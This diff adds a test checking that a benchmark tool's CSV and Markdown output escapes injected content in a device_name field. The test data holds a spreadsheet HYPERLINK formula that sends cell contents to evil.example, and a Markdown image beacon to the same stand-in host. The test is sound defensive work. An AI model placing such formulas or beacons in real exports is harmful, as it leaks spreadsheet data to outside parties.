@@ -45,6 +45,23 @@ def test_show_reads_custom_budgets_and_writes_csv_json_and_markdown(tmp_path, be
     assert markdown.startswith("| suite ") and markdown.count("| mlp ") == 3  # dense, dense-ft, gmp at 0.9
 
 
+def test_show_as_csv_or_markdown_makes_no_formula_link_or_broken_row(tmp_path, bench):
+    """`--show --format csv|markdown` follows the rules of leaderboard.csv and leaderboard.md
+    (they were printed as written): a record's text that starts as a formula arrives with a
+    leading `'`, and one that is a Markdown image, or holds a `|`, is escaped."""
+    recs = terminal_records()
+    recs[0]["env"] = {**recs[0]["env"], "device_name": '=HYPERLINK("http://evil.example/?"&A1,"click")'}
+    recs[2]["env"] = {**recs[2]["env"], "device_name": "![x](https://evil.example/t.png) | x"}  # dense-ft
+    write_records(tmp_path, recs)
+    shown = show(bench, tmp_path, "--format", "csv")
+    assert shown.returncode == 0, shown.stderr
+    cells = pd.read_csv(io.StringIO(shown.stdout))["machines"]
+    assert any(c.startswith("'=HYPERLINK(") for c in cells) and not any(c.startswith("=") for c in cells)
+    markdown = show(bench, tmp_path, "--format", "markdown").stdout
+    assert "!\\[x\\](https://evil.example/t.png) \\| x" in markdown and "![x]" not in markdown
+    assert len({line.replace("\\|", "").count("|") for line in markdown.splitlines()}) == 1  # no row has a cell more
+
+
 def test_show_methods_keeps_the_named_and_matched_methods_beside_the_references(tmp_path, bench, monkeypatch):
     """--methods takes names and glob patterns as `bench run` does; a name no record has is
     refused with the nearest one, before any table is printed."""
